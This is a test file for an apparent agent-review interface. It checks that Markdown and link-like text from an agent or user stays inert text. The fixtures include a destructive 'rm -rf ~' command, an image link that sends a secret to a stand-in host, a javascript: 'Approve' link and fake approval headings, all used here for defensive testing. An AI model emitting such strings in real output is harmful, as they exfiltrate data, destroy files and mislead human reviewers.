import { within } from "@testing-library/react";
import { describe, expect, test } from "vitest";
import { aBatch, aCall } from "../../test/builders.ts";
import { renderBatch } from "../../test/render-batch.tsx";

/** What Markdown, wikis, terminals and chats make something of. */
const written: readonly string[] = [
  "__prod__",
  "~~--dry-run~~",
  "[x]: gone",
  "cp a <b>",
  "```\nrm -rf ~\n```",
  "````` break out `````",
  "# Approved",
  "> Security: fine",
  "- [x] reviewed",
  "1. first\n2. second",
  "| a | b |\n|---|---|",
  "![p](https://evil.test/p.png?d=SECRET)",
  "[Approve](javascript:alert(1))",
  "<https://evil.test>",
  "https://evil.test/?a=1&b=2",
  "www.evil.test and ana@example.test",
  "&lt;b&gt; &amp; &#x41; &nbsp;",
  "$\\frac{a}{b}$ and $$x$$",
  ":warning: *bold* _it_ **b** `c`",
  "--- \n***\n===",
  "a\\_b \\* c\\",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would fill in
  "{{user}} ${HOME} %PATH% <%= x %>",
];

/** The text of an element without the marks that stand beside it. */
function textOf(element: Element | null): string {
  const copy = element?.cloneNode(true) as Element;
  for (const mark of copy.querySelectorAll('[data-chip="quiet"]')) mark.remove();
  return copy.textContent ?? "";
}

describe("T-26, I-02: Markdown and what looks like a link stay text, in every zone", () => {
  test.each(written)("%j stands as it came", async (text) => {
    const source = JSON.stringify({ value: text });
    const pane = await renderBatch(
      aBatch({
        calls: [
          aCall({
            argumentText: { form: "in-envelope", text: source },
            agentSays: [{ label: "title", text }],
          }),
        ],
        lineage: { agent: null, session: { id: "s", title: text }, run: null },
        transcript: {
          lastUserMessage: { text, at: null },
          messages: [
            {
              id: "m",
              role: "assistant",
              at: null,
              isCompaction: false,
              parts: [{ kind: "text", text, isStreaming: false }],
            },
          ],
        },
      }),
    );
    const says = pane.region.getByRole("figure", { name: "The agent says of this call, as title" });
    expect(textOf(says.querySelector("blockquote"))).toBe(`“${text}”`);
    const asked = pane.region.getByRole("figure", { name: "Last user message" });
    expect(textOf(asked.querySelector("blockquote"))).toBe(`“${text}”`);
    const script = pane.region.getByRole("region", { name: /^Transcript/ });
    expect(textOf(within(script).getByRole("listitem"))).toBe(`assistant${text}`);

    const box = within(pane.region.getByRole("region", { name: "Arguments of bash" }));
    await pane.user.click(box.getByRole("button", { name: "Raw text, bash" }));
    expect(textOf(pane.region.getByRole("region", { name: "Arguments of bash" }))).toContain(source);
    expect(
      pane.container.querySelectorAll("a, img, em, b, del, h1, h4, table, ol > li > ol, mark"),
    ).toHaveLength(0);
  });
});
